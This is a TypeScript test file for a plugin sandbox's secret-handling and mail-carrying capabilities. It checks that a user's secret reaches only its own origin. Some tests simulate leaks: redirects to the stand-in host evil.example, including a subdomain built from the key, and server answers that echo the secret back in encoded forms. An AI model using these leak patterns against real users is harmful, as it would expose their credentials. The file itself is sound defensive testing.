/** The other two ways to the network: with a secret of the user's, and with the user's mail. */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { limits } from "../../../core/kernel/limits.ts";
import { CarriedHosts } from "../../../core/plugins/capabilities/carried-hosts.ts";
import { Grant } from "../../../core/plugins/grants.ts";
import { carryPort } from "../../../core/plugins/hooks/delivery-carry.ts";
import type { NetAnswer } from "../../../core/plugins/capabilities/capability-context.ts";
import { contextFor, TestClock } from "../context-for.ts";
import { asking, codeOf, reason } from "./grant-for.ts";
import { onion, origin, redirect, world } from "./recorded-world.ts";

describe("secret.use", () => {
  const secret = { name: "key", title: "key", origin, header: "authorization", prefix: "Bearer " };
  function using(value: string | null, answers: Record<string, Partial<NetAnswer>> = {}) {
    const { asked, net } = world(answers);
    const secrets = { read: async (plugin: string, name: string) => (plugin === "p" && name === "key" ? value : null) };
    const ask = asking(
      { "secret.use": { secrets: [secret], via: "direct", reason } },
      contextFor("p", { net, secrets }),
    );
    return {
      asked,
      fetch: (url: string, more: object = {}) => ask("secret.use", "fetch", { secret: "key", url, ...more }),
    };
  }

  it("puts the user's secret into a request to its own origin", async () => {
    const { asked, fetch } = using("s3cret", {});
    assert.equal(codeOf(await fetch(`${origin}/`)), undefined);
    assert.deepEqual(asked[0]?.headers, [["authorization", "Bearer s3cret"]]);
  });

  it("sends it nowhere else, not by redirect either", async () => {
    const { asked, fetch } = using("s3cret", { [`${origin}/out`]: redirect("https://evil.example/") });
    assert.equal(codeOf(await fetch("https://evil.example/")), "PLUGIN_DENIED");
    assert.equal(codeOf(await fetch(`${origin}/out`)), "PLUGIN_DENIED");
    assert.deepEqual(
      asked.map((request) => request.origin),
      [origin],
    );
  });

  it("keeps an answer that repeats it from the plugin", async () => {
    const mirrors: Array<Partial<NetAnswer>> = [
      { body: Buffer.from("you sent s3cret") },
      { headers: [["x-mirror", "Bearer s3cret"]] },
      redirect("/?s3cret"),
    ];
    for (const mirror of mirrors) {
      const { fetch } = using("s3cret", { [`${origin}/`]: mirror });
      assert.equal(codeOf(await fetch(`${origin}/`)), "PLUGIN_DENIED");
      assert.equal(codeOf(await fetch(`${origin}/`, { answerEncoding: "base64" })), "PLUGIN_DENIED");
    }
  });

  it("asks for no part of an answer, which could hold a part of it", async () => {
    const { asked, fetch } = using("s3cret");
    for (const name of ["range", "if-range"])
      assert.equal(codeOf(await fetch(`${origin}/`, { headers: [{ name, value: "bytes=0-2" }] })), "BAD_REQUEST");
    assert.deepEqual(asked, []);
  });

  it("finds the secret in whatever common form a server gives it back", async () => {
    const key = 'k&"<y/9+Zq=~w';
    const bytes = Buffer.from(key);
    const forms: Array<[string, string | Buffer]> = [
      ["percent signs", encodeURIComponent(key)],
      ["JSON", JSON.stringify({ key })],
      ["HTML", "k&amp;&quot;&lt;y/9+Zq=~w"],
      ["hex", bytes.toString("hex").toUpperCase()],
      ["base64 in a Basic header's way", Buffer.from(`user:${key}:x`).toString("base64")],
      ["base64, one letter before", Buffer.from(`a${key}`).toString("base64")],
      ["base64 for URLs, two letters before", Buffer.from(`ab${key}yz`).toString("base64url")],
      ["UTF-16", Buffer.from(key, "utf16le")],
      ["capitals", key.toUpperCase()],
    ];
    for (const [name, body] of forms) {
      const { fetch } = using(key, { [`${origin}/`]: { body: Buffer.from(body as string) } });
      assert.equal(codeOf(await fetch(`${origin}/`)), "PLUGIN_DENIED", name);
      assert.equal(codeOf(await fetch(`${origin}/`, { answerEncoding: "base64" })), "PLUGIN_DENIED", name);
    }
    const { fetch } = using(key, { [`${origin}/`]: { body: Buffer.from("nothing of the kind") } });
    assert.equal(codeOf(await fetch(`${origin}/`)), undefined);
  });

  it("does not tell it by the name of a server that a redirect leads to, or of a header field", async () => {
    const key = "abcdef0123456789";
    const mirrors = [
      redirect(`https://${key}.evil.example/`),
      { headers: [[`x-${key}`, "1"]] as Array<[string, string]> },
    ];
    for (const mirror of mirrors) {
      const refused = await using(key, { [`${origin}/`]: mirror }).fetch(`${origin}/`);
      assert.equal(codeOf(refused), "PLUGIN_DENIED");
      assert.equal(JSON.stringify(refused).includes(key), false);
    }
  });

  it("asks for the secret of that origin alone", async () => {
    const asked: string[][] = [];
    const secrets = {
      read(...names: string[]) {
        asked.push(names);
        return null;
      },
    };
    const ask = asking({ "secret.use": { secrets: [secret], via: "direct", reason } }, contextFor("p", { secrets }));
    assert.equal(codeOf(await ask("secret.use", "fetch", { secret: "key", url: origin })), "NOT_FOUND");
    assert.deepEqual(asked, [["p", "key", origin]]);
  });

  it("says that the user has entered none, and refuses one of another name, or one that breaks the line", async () => {
    assert.equal(codeOf(await using(null).fetch(origin)), "NOT_FOUND");
    assert.equal(codeOf(await using("s3cret").fetch(origin, { secret: "other" })), "PLUGIN_DENIED");
    assert.equal(codeOf(await using("a\r\nb").fetch(origin)), "BAD_REQUEST");
    const own = { headers: [{ name: "authorization", value: "mine" }] };
    assert.equal(codeOf(await using("s3cret").fetch(origin, own)), "BAD_REQUEST");
  });
});

describe("transport.carry", () => {
  function carrying(scope: object) {
    const { asked, net } = world();
    const ask = asking(
      { "transport.carry": { via: "tor", hosts: ["*.onion"], reason, ...scope } },
      contextFor("p", { net }),
    );
    return { asked, post: (url: string) => ask("transport.carry", "post", { url, body: "mail" }) };
  }

  it("gives mail to any onion name where that was granted, through Tor", async () => {
    const { asked, post } = carrying({});
    assert.equal(codeOf(await post(`http://${onion}/inbox`)), undefined);
    assert.deepEqual([asked[0]?.method, asked[0]?.via, asked[0]?.origin], ["POST", "tor", `http://${onion}`]);
  });

  it("gives it to no other host, port or scheme", async () => {
    const { asked, post } = carrying({ hosts: ["mx.example.org"], via: "tls" });
    assert.equal(codeOf(await post("https://mx.example.org/x")), undefined);
    const others = [
      "http://mx.example.org/",
      "https://example.org/",
      "https://mx.example.org:25/",
      `http://${onion}/`,
      "https://a.mx.example.org/",
      "https://onion/",
    ];
    for (const url of others) assert.equal(codeOf(await post(url)), "PLUGIN_DENIED", url);
    assert.equal(codeOf(await carrying({}).post("http://short.onion/")), "PLUGIN_DENIED");
    assert.equal(asked.length, 1);
  });
});

describe("a claim that mail was sent", () => {
  const recipients = ["mx.example.org", "other.example.org"].map((host, at) => ({
    address: `${at}@example.org`,
    host,
  }));
  const parcel = { id: "1", from: "ana@example.org", recipients, message: Buffer.from("x") };
  function transport(status = 200) {
    const { net } = world({ "https://mx.example.org/": { status } });
    const context = contextFor("p", { net });
    const hosts = ["mx.example.org", "other.example.org"];
    const grant = new Grant({ "transport.carry": { via: "tls", hosts, reason } }, context);
    const post = () =>
      grant.answer({
        plugin: "p",
        capability: "transport.carry",
        method: "post",
        args: Buffer.from(JSON.stringify({ url: "https://mx.example.org/", body: "mail" })),
      });
    const claim = (...statuses: string[]) =>
      carryPort.decode(
        statuses.map((each, at) => ({ address: `${at}@example.org`, status: each, note: "Told." })),
        parcel,
        grant,
      );
    return { post, claim };
  }
  const lie = { code: "PLUGIN_FAILED", detail: { problem: "answer", where: "sent without carrying" } };

  it("counts for a host that took something, once", async () => {
    const { post, claim } = transport();
    assert.throws(() => claim("sent", "later"), lie);
    await post();
    assert.equal(claim("sent", "later")[0]?.status, "sent");
    assert.throws(() => claim("sent", "later"), lie);
  });

  it("counts for no other host, and not where the host refused", async () => {
    const other = transport();
    await other.post();
    assert.throws(() => other.claim("later", "sent"), lie);
    const refused = transport(550);
    await refused.post();
    assert.throws(() => refused.claim("sent", "later"), lie);
  });

  it("stands on the last limits.carriedHostsMax hosts, and not one more", () => {
    const carried = new CarriedHosts(new TestClock());
    for (let host = 0; host <= limits.carriedHostsMax; host += 1) carried.note(`${host}`);
    assert.equal(carried.claim("0"), false);
    assert.equal(carried.claim("1"), true);
    assert.equal(carried.claim("1"), false);
  });

  it("is not laid up: a host that took something counts for limits.pluginCallLifeMs, and no longer", () => {
    const clock = new TestClock();
    const carried = new CarriedHosts(clock);
    carried.note("early");
    carried.note("late");
    clock.at += limits.pluginCallLifeMs - 1;
    assert.equal(carried.claim("early"), true);
    clock.at += 1;
    assert.equal(carried.claim("late"), false);
  });
});
